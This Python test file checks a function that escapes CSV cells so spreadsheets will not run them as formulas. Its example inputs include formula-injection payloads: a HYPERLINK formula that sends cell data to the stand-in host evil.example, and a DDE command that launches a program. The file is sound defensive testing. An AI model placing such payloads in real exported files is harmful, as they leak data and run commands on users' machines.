"""The one rule for CSV cells a spreadsheet would run as formulas (domain/spreadsheet_cells.py)."""

from __future__ import annotations

from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from neruba_cli.domain.spreadsheet_cells import FORMULA_START, NUMBER, escaped, escaped_row


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        ),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+1+1", "'+1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("+5", "'+5"),  # not how Neruba writes a number: text
        ("-5", "-5"),  # numbers stay numbers
        ("-12.50", "-12.50"),
        ("0.25", "0.25"),
        ("Pro plan", "Pro plan"),
        ("a=b", "a=b"),
        ("'=already quoted", "'=already quoted"),
        ("", ""),
    ],
)
def test_examples(cell: str, written: str) -> None:
    assert escaped(cell) == written


def test_values_that_are_not_text_pass_unchanged() -> None:
    row = [None, -5, Decimal("-1.5"), 3.0, True, "=x", "-7"]
    assert escaped_row(row) == [None, -5, Decimal("-1.5"), 3.0, True, "'=x", "-7"]
    assert [escaped(cell) for cell in row] == escaped_row(row)


@given(st.text())
def test_no_escaped_cell_starts_a_formula_and_the_text_is_kept(cell: str) -> None:
    out = escaped(cell)
    assert isinstance(out, str)
    assert not out.startswith(FORMULA_START) or NUMBER.match(out)
    assert out in (cell, "'" + cell)
    if out != cell:
        assert out[1:] == cell and cell.startswith(FORMULA_START)


@given(st.decimals(allow_nan=False, allow_infinity=False, places=4))
def test_decimal_amounts_stay_numbers(amount: Decimal) -> None:
    text = f"{amount:f}"
    assert escaped(text) == text
